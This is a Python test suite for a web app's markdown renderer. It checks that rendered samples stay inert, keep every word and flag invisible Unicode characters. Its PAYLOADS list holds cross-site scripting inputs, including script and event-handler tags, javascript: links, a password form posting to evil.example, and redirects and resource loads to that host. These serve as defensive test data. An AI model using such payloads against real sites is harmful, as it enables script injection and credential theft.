"""Sample text on a page: nothing runs, nothing loads, no word is lost."""

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it.common.utils import escapeHtml
from markupsafe import escape

from app.web.highlighting import LANGUAGES, highlighted
from app.web.markdown import TAGS
from app.web.material import is_formatted, material, plain, visible, words
from app.web.unseen import mark_unseen

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>click</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#x6a;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](https://evil.example/?q=1 'onmouseover=alert(1)')",
    "![pixel](https://evil.example/pixel.gif)",
    '![x"onerror="alert(1)](x)',
    "<https://evil.example/>",
    "https://evil.example/",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<button hx-post=/sign-out hx-trigger=load>x</button>",
    "<div hx-get=/datasets hx-trigger=revealed></div>",
    "<hx-partial hx-target=body>gone</hx-partial>",
    "<template hx type=partial hx-target='#desk'>gone</template>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>over</p>",
    "<object data=x></object><embed src=x>",
    "</textarea><script>alert(1)</script>",
    "</div></main><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "{{ 7 * 7 }} {% raw %}",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><img/src='x'onerror=alert(1)>\ncode\n```",
    "`<script>alert(1)</script>`",
    "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
    "# <svg/onload=alert(1)>",
    "> <script>alert(1)</script>",
    "[x]: javascript:alert(1)\n[x]",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<div data-key=a id=desk class=btn>A</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "\u202e<script>\u202c",
]
ALLOWED = {f"<{tag}" for tag in TAGS} | {f"</{tag}" for tag in TAGS}
_OPENING = re.compile(r"</?[a-zA-Z!][^\s>/]*")
_MARK = re.compile(r'<span class="unseen">[^<]*</span>')
_ATTRIBUTE = re.compile(r"<[^>]*?\s([a-z-]+)=")


def harmless(rendered: str) -> bool:
    """Only our own tags, and of their attributes none that loads, links or runs."""
    names = set(_ATTRIBUTE.findall(rendered))
    return set(_OPENING.findall(rendered)) <= ALLOWED and names <= {
        "class", "tabindex", "role", "aria-label", "start", "value", "dir",
    }  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_in_a_sample_becomes_active(payload: str) -> None:
    rendered = material(payload)

    assert harmless(rendered)
    assert harmless(plain(payload))
    assert words(payload) in words(visible(mark_unseen(rendered))) or "\u202e" in payload


@given(st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\0")))
def test_any_text_is_harmless_and_whole(text: str) -> None:
    rendered = material(text)

    assert harmless(rendered)
    kept = words(visible(_MARK.sub("", rendered)))
    assert [letter for letter in words(text) if letter.isascii()] == [letter for letter in kept if letter.isascii()]


markdown_pieces = st.sampled_from([
    "# ", "* ", "- ", "1. ", "12) ", "> ", "```\n", "~~~ py\n", "**", "*", "_", "`", "[", "](", ")", "![", "<", ">", "|",
    "|-|-|\n", "\n", "\n\n", "    ", "a", "word ", "7", "mg", "&amp;", "\\", "---\n", "===\n", "[x]: y\n", "<b>",
    "http://a.b/c_d", "é", "ق", "\t", "  \n",
])  # fmt: skip


@given(st.lists(markdown_pieces, max_size=60).map("".join))
def test_markdown_never_hides_a_word_or_a_number(text: str) -> None:
    assert words(visible(material(text))) == words(text)


@pytest.mark.parametrize(("text", "rendered"), [
    ("One\nline", '<p dir="auto">One<br>\nline</p>\n'),
    ("Wait **48** hours", '<p dir="auto">Wait <strong>48</strong> hours</p>\n'),
    ("[leaflet](https://nhs.example 'Page 3')",
     '<p dir="auto"><span class="link">leaflet</span> <span class="address">https://nhs.example "Page 3"</span></p>\n'),
    ("![scan](x.png)", '<p dir="auto"><span class="image">scan <span class="address">x.png</span></span></p>\n'),
    ("# Dose\n### Children", '<h3 dir="auto">Dose</h3>\n<h5 dir="auto">Children</h5>\n'),
    ("## Approve when", '<h3 dir="auto">Approve when</h3>\n'),
    ("3. first\n9. second", '<ol start="3">\n<li value="3" dir="auto">first</li>\n<li value="9" dir="auto">second</li>\n</ol>\n'),
])  # fmt: skip
def test_markdown_is_read(text: str, rendered: str) -> None:
    assert material(text) == rendered


def test_row_that_is_wider_than_its_table_is_shown_as_it_stands() -> None:
    text = "|Drug|Dose|\n|-|-|\n|Metformin|500 mg|2000 mg|"

    assert material(text) == plain(text)
    assert "2000 mg" in material(text)


def test_each_paragraph_and_item_has_a_direction_of_its_own() -> None:
    rendered = material("First, in English.\n\nخذ الدواء\n\n- one\n- واحد\n\n> quoted\n\n|a|\n|-|\n|ب|")

    assert re.findall(r"<(p|li|blockquote|th|td)(?! dir=\"auto\")\b", rendered) == []
    assert rendered.count('<li dir="auto">') == 2


def test_code_is_told_apart_by_classes_alone() -> None:
    rendered = material("```python\ndef dose(mg):\n    return 'two' + 2  # <b>\n```")

    assert '<span class="tok-k">def</span> <span class="tok-n">dose</span>(mg):' in rendered
    assert '<span class="tok-s">&#39;two&#39;</span>' in rendered or "<span class=\"tok-s\">'two'</span>" in rendered
    assert '<span class="tok-c"># &lt;b&gt;</span>' in rendered
    assert "style=" not in rendered


@pytest.mark.parametrize("text", [
    "```no-such-language\nx = 1\n```", "```\nx = 1\n```", "```python\n" + "x = 1\n" * 2_000 + "```", "    x = 1",
])  # fmt: skip
def test_code_of_an_unknown_language_or_great_length_stays_as_it_is(text: str) -> None:
    rendered = material(text)

    assert "tok-" not in rendered
    assert words(visible(rendered)) == words(text)


@given(st.sampled_from(sorted(LANGUAGES)), st.text(st.characters(blacklist_categories=["Cs"]), max_size=80))
def test_no_character_of_code_is_lost(language: str, code: str) -> None:
    assert visible(highlighted(code, language)) == visible(escapeHtml(code))


def test_code_can_be_scrolled_by_keyboard() -> None:
    assert '<pre tabindex="0"><code>=IF(C2&lt;30)\n</code></pre>' in material("```excel\n=IF(C2<30)\n```")


def test_plain_text_keeps_every_space() -> None:
    text = "  a\t b\n\n\n  c  <&>"

    assert plain(text) == f'<div class="plain">{escape(text)}</div>'


@pytest.mark.parametrize(("text", "mark"), [
    ("user\u202egpj.exe", "right-to-left override"),
    ("a\u200bb", "zero width space"),
    ("a\u2066b\u2069", "left-to-right isolate"),
    ("\ufeffStart", "zero width no-break space"),
    ("hidden\U000e0041\U000e0042", "2 unseen characters"),
    ("\u200b\u200b\u200b", "3 × zero width space"),
    ("pass\u200dword", "zero width joiner"),
    ("bell\x07", "character 0007"),
])  # fmt: skip
def test_unseen_characters_are_marked(text: str, mark: str) -> None:
    assert f'<span class="unseen">{mark}</span>' in material(text)
    assert f'<span class="unseen">{mark}</span>' in plain(text)


@pytest.mark.parametrize("text", ["می\u200cخواهم", "क्\u200dष", "👩\u200d⚕️", "Tab\tand\nline"])
def test_characters_that_a_script_needs_are_left_alone(text: str) -> None:
    assert "unseen" not in material(text)


@pytest.mark.parametrize("text", [
    "a" * 1_000_000, "\u200b\u200c" * 500_000, "[" * 50_000, "![" * 2_000, "*a_ " * 2_000, "|a" * 25_000,
    "> " * 25_000 + "deep", "a\u200b" * 500_000, "- " * 25_000,
])  # fmt: skip
def test_hostile_length_is_shown_in_time(text: str) -> None:
    started = time.perf_counter()
    rendered = material(text)

    assert time.perf_counter() - started < 5
    assert len(rendered) < 10 * len(text) + 100_000


@pytest.mark.parametrize(("text", "formatted"), [
    ("Plain.\nProse.\n\nMore.", False), ("A **bold** word", True), ("- a list", True), ("1 < 2", False),
    ("x" * 60_000, False),
])  # fmt: skip
def test_plain_view_is_offered_where_it_differs(text: str, formatted: bool) -> None:
    assert is_formatted(material(text)) is formatted


@pytest.mark.parametrize("language", sorted(LANGUAGES))
def test_hostile_code_is_shown_in_time(language: str) -> None:
    for code in ["\n" * 6_000, "a" * 6_000, "(" * 6_000, "a\t" * 3_000, "'" * 6_000]:
        started = time.perf_counter()
        highlighted(code, language)
        assert time.perf_counter() - started < 2
